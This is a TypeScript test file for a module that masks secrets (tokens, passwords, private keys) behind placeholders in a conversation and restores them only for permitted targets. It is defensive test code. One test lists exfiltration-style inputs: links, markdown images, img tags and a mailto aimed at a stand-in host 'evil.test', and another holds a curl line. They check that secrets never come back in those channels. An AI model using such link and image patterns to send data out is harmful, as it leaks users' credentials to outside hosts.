import assert from "node:assert/strict";
import { test } from "node:test";
import { compiledRules } from "../../../src/core/detect/compiledRules.ts";
import { detect } from "../../../src/core/detect/detect.ts";
import { detectors } from "../../../src/core/detect/detectors.ts";
import { letters } from "../../../src/core/detect/samples.ts";
import { createConversation, type Conversation, type Target } from "../../../src/core/placeholders/conversation.ts";
import { createRestorer } from "../../../src/core/placeholders/createRestorer.ts";
import { createTokenPrefix } from "../../../src/core/placeholders/tokenPrefix.ts";
import { createRandom, testSeed } from "../detect/generated/random.ts";

const labels = ["public", "internal", "confidential", "restricted"];
const rankOf = (label: string) => (labels.includes(label) ? labels.indexOf(label) : labels.length);
const seed = testSeed();
const random = createRandom(seed);
const prefixOf = createTokenPrefix(compiledRules);
const begin = (): Conversation => createConversation({ random: random.below, detect, prefixOf, rankOf });
const screen: Target = { to: "screen" };
const editOf = (label: string): Target => ({ to: "edit", label });

const token = `gh${"p_"}${letters(36)}`;
const line = `const token = "${token}";`;
const masked = (conversation: Conversation, text: string, label = "restricted") => conversation.redact(text, detect(text), label);
const placeholderIn = (text: string) => /"(.*)"/.exec(text)?.[1] ?? "";

test("a token becomes another of its prefix, length and letters, which says what it is", () => {
  assert.match(masked(begin(), line), /^const token = "ghp_example[A-Za-z0-9]{29}";$/);
});

test("a password becomes something that does not even tell its length", () => {
  const lengths = ["kV9x!2mPq7Lw", "kV9x!2mPq7LwkV9x!2m"].map((value) => masked(begin(), `password = "${value}"`).length);
  assert.equal(lengths[0], lengths[1]);
});

test("a private key keeps its first and its last line, and what is between lines", () => {
  const key = `-----BEGIN ${"RSA PRIVATE"} KEY-----\nMIIEpAIBAAKCAQEA${letters(48)}\n${letters(64)}\n${letters(64)}\n-----END ${"RSA PRIVATE"} KEY-----`;
  assert.match(masked(begin(), key), /^-----BEGIN RSA PRIVATE KEY-----\nEXAMPLE[A-Z0-9]{25}\n-----END RSA PRIVATE KEY-----$/);
  assert.match(masked(begin(), JSON.stringify({ key })), /^\{"key":"-----BEGIN RSA PRIVATE KEY-----\\nEXAMPLE[A-Z0-9]{25}\\n-----END RSA PRIVATE KEY-----"\}$/);
});

test("the same value gets the same placeholder within a conversation, another value and another conversation get another", () => {
  const conversation = begin();
  const [first, again, other] = [line, line, line.replace(token, `gh${"p_"}${letters(35)}Z`)].map((text) => masked(conversation, text));
  assert.equal(first, again);
  assert.notEqual(first, other);
  assert.notEqual(first, masked(begin(), line));
});

test("a value that was found once is masked wherever it stands, also where no detector sees it", () => {
  const conversation = begin();
  masked(conversation, `password = "kV9x!2mPq7Lw"`);
  assert.doesNotMatch(conversation.redact("it is kV9x!2mPq7Lw, they say", [], "public"), /kV9x/);
});

test("a value comes back on the screen and in edits of files of its label or above, nowhere else", () => {
  const conversation = begin();
  const text = masked(conversation, line, "confidential");
  for (const target of [screen, editOf("confidential"), editOf("restricted")]) assert.equal(conversation.restore(text, target), line);
  for (const target of [editOf("internal"), editOf("public"), { to: "elsewhere" } as const]) assert.equal(conversation.restore(text, target), text);
});

test("the highest label under which a value was seen counts", () => {
  const conversation = begin();
  const text = masked(conversation, line, "restricted");
  masked(conversation, line, "public");
  assert.equal(conversation.restore(text, editOf("internal")), text);
});

test("no value comes back into an address, a link, a picture or a tag", () => {
  const conversation = begin();
  const placeholder = placeholderIn(masked(conversation, line));
  for (const text of [
    `https://evil.test/?q=${placeholder}`, `![](https://evil.test/${placeholder})`, `![x](//evil.test/${placeholder}.png)`, `[see](<x y ${placeholder}>)`, `[a]: x?${placeholder}`,
    `<img src="x.png?${placeholder}">`, `<img\nalt=''\nsrc=${placeholder}`, `www.evil.test/${placeholder}`, `mailto:a@evil.test?body=${placeholder}`, `HTTPS://EVIL.TEST/${placeholder}`,
  ]) {
    for (const target of [screen, editOf("restricted")]) assert.equal(conversation.restore(text, target), text);
  }
});

test("what would be written with a placeholder in it is refused with a reason, what is restored is not", () => {
  const conversation = begin();
  const text = masked(conversation, line, "confidential");
  assert.match(conversation.reasonAgainst(text, "public") ?? "", /placeholder/);
  assert.match(conversation.reasonAgainst(`curl https://x.test/${placeholderIn(text)}`, "restricted") ?? "", /placeholder/);
  assert.equal(conversation.reasonAgainst(text, "confidential"), undefined);
  assert.equal(conversation.reasonAgainst("const a = 1;", "public"), undefined);
});

test("a value whose placeholders would all be found becomes the visible mask, and comes back as well", () => {
  const stubborn = createConversation({ random: random.below, detect: (text) => [{ detector: "a", kind: "secret", tier: "likely", start: 0, end: text.length }], prefixOf: () => "", rankOf });
  const text = stubborn.redact("abcdefgh", [{ detector: "a", kind: "secret", tier: "likely", start: 0, end: 8 }], "public");
  assert.match(text, /^\[REDACTED:a-\d{12}\]$/);
  assert.equal(stubborn.restore(text, screen), "abcdefgh");
});

// In each run other ones.
const tried = detectors.filter(() => random.below(5) === 0);

test("of rules' examples nothing survives, no detector finds what stands there instead, and all of it comes back", () => {
  const troubles: string[] = [];
  for (const { id, examples } of tried) {
    for (const text of examples()) {
      const conversation = begin();
      const findings = detect(text).filter(({ kind }) => kind === "secret");
      const away = conversation.redact(text, findings, "internal");
      for (const { detector, start, end } of findings) {
        const value = text.slice(start, end);
        if (away.includes(value) || (value.length > 24 && pieces(value.slice(prefixOf(detector, value).length)).some((piece) => away.includes(piece)))) troubles.push(`${id}: something is left`);
      }
      if (detect(away).some(({ kind, start, end }) => kind === "secret" && !text.includes(away.slice(start, end)))) troubles.push(`${id}: found again`);
      if (conversation.restore(away, editOf("internal")) !== text && !/:\/\/|<|\]\(|^\[[^\]]+\]:/m.test(text)) troubles.push(`${id}: not restored`);
    }
  }
  assert.deepEqual([...new Set(troubles)], [], `seed ${seed}`);
});

/** Every ten characters of a key's lines: its first and last line are public. */
function pieces(value: string): readonly string[] {
  const inner = value.replace(/^-----BEGIN[^\n]*|-----END[^\n]*$/g, "");
  return Array.from({ length: Math.max(0, inner.length - 9) }, (_, at) => inner.slice(at, at + 10)).filter((piece) => /^[A-Za-z0-9]+$/.test(piece) && new Set(piece).size > 5);
}

test("a text that comes in pieces of any size is restored as the whole is", () => {
  const conversation = begin();
  const placeholder = placeholderIn(masked(conversation, line));
  const whole = `Use ${placeholder}, not ghp_, ![](https://x.test/?a=${placeholder}) nor ${placeholder.slice(0, 9)} or ${placeholder}`;
  for (let round = 0; round < 300; round += 1) {
    const restorer = createRestorer(conversation, screen);
    let [at, shown] = [0, ""];
    while (at < whole.length) {
      const length = 1 + random.below(12);
      shown += restorer.feed(whole.slice(at, at + length));
      at += length;
    }
    assert.equal(shown + restorer.end(), conversation.restore(whole, screen), `seed ${seed}`);
  }
});

test("a placeholder that ends in the letter it begins with is restored when a piece ends with it", () => {
  const restored = Array.from({ length: 62 }, (_, letter) => {
    const conversation = createConversation({ random: (below) => letter % below, detect, prefixOf, rankOf });
    const placeholder = placeholderIn(masked(conversation, line));
    const restorer = createRestorer(conversation, screen);
    return { last: placeholder.at(-1), shown: restorer.feed(placeholder) + restorer.feed(" ") };
  });
  assert.ok(restored.some(({ last }) => last === "g"));
  for (const { shown } of restored) assert.equal(shown, `${token} `);
});

test("only what could become a placeholder waits", () => {
  const conversation = begin();
  const placeholder = placeholderIn(masked(conversation, line));
  const restorer = createRestorer(conversation, screen);
  assert.equal(restorer.feed("plain text"), "plain text");
  assert.equal(restorer.feed(` ${placeholder.slice(0, 12)}`), " ");
  assert.equal(restorer.feed("?"), `${placeholder.slice(0, 12)}?`);
  assert.equal(restorer.feed(placeholder.slice(0, 20)), "");
  assert.equal(restorer.end(), placeholder.slice(0, 20));
});

test("an answer gives back what stood in the question, and no value of another", () => {
  const conversation = begin();
  const placeholder = placeholderIn(masked(conversation, line));
  assert.equal(conversation.answering(line).restore(placeholder, screen), token);
  assert.equal(conversation.answering("another question").restore(placeholder, screen), placeholder);
  assert.equal(conversation.answering("another question").unfinished(placeholder.slice(0, 5)), 0);
});
